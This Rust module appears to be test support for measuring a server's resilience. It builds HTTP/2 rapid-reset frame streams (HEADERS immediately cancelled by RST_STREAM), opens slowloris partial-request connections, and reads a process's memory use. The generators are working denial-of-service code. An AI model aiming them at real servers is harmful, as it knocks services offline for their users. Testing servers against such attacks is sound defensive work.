//! What an attacker sends, over real sockets: raw HTTP/2 frames (HEADERS immediately followed by
//! RST_STREAM: rapid reset), HTTP/1 heads that trickle (slowloris), and a process's resident
//! memory, to see what an attack costs.

use std::{net::SocketAddr, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// One HTTP/2 frame: 9-byte header and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("a small frame");
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A GET's header block in HPACK, without Huffman coding or indexing: `:method GET` and
/// `:scheme http` from the static table, `:path` and `:authority` as literals with indexed
/// names.
fn get_block(authority: &str, path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    for (index, value) in [(4u8, path), (1u8, authority)] {
        let len = u8::try_from(value.len()).expect("short header values");
        assert!(len < 127, "HPACK 7-bit length");
        b.push(index); // literal without indexing, indexed name (4-bit prefix)
        b.push(len);
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// The bytes of a rapid-reset connection: the client preface, empty SETTINGS, then `streams`
/// times a complete GET (HEADERS with END_STREAM) immediately reset (RST_STREAM CANCEL), all
/// written at once.
pub fn rapid_reset_bytes(authority: &str, path: &str, streams: u32) -> Vec<u8> {
    const HEADERS: u8 = 0x1;
    const RST_STREAM: u8 = 0x3;
    const SETTINGS: u8 = 0x4;
    const END_STREAM_AND_HEADERS: u8 = 0x1 | 0x4;
    const CANCEL: u32 = 0x8;
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    let block = get_block(authority, path);
    for i in 0..streams {
        let id = 1 + 2 * i;
        out.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, &block));
        out.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
    }
    out
}

/// Opens a connection and sends [`rapid_reset_bytes`]; returns the connection (still open) or
/// `None` if it could not be made.
pub async fn rapid_reset(
    addr: SocketAddr,
    authority: &str,
    path: &str,
    streams: u32,
) -> Option<TcpStream> {
    let mut s = TcpStream::connect(addr).await.ok()?;
    s.write_all(&rapid_reset_bytes(authority, path, streams))
        .await
        .ok()?;
    Some(s)
}

/// Starts a request head and sends nothing more: a slowloris connection. Returns it open.
pub async fn partial_head(addr: SocketAddr) -> Option<TcpStream> {
    let mut s = TcpStream::connect(addr).await.ok()?;
    s.write_all(b"GET /echo HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
        .await
        .ok()?;
    Some(s)
}

/// Waits until the peer closes `s` (EOF or reset), reading and discarding whatever it sends;
/// `false` if it is still open after `limit`.
pub async fn closed_within(s: &mut TcpStream, limit: Duration) -> bool {
    let mut buf = [0u8; 1024];
    tokio::time::timeout(limit, async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    })
    .await
    .is_ok()
}

/// A process's resident set size in KiB (`VmRSS` in `/proc/<pid>/status`).
pub fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_else(|e| panic!("read /proc/{pid}/status: {e}"));
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("no VmRSS in /proc/{pid}/status"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_as_rfc_9113_says() {
        let f = frame(0x3, 0, 5, &8u32.to_be_bytes());
        assert_eq!(f, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        let b = rapid_reset_bytes("a", "/", 2);
        assert!(b.starts_with(PREFACE));
        // Preface, SETTINGS, then two (HEADERS, RST_STREAM) pairs.
        let block = get_block("a", "/").len();
        assert_eq!(b.len(), PREFACE.len() + 9 + 2 * (9 + block + 9 + 4));
    }
}
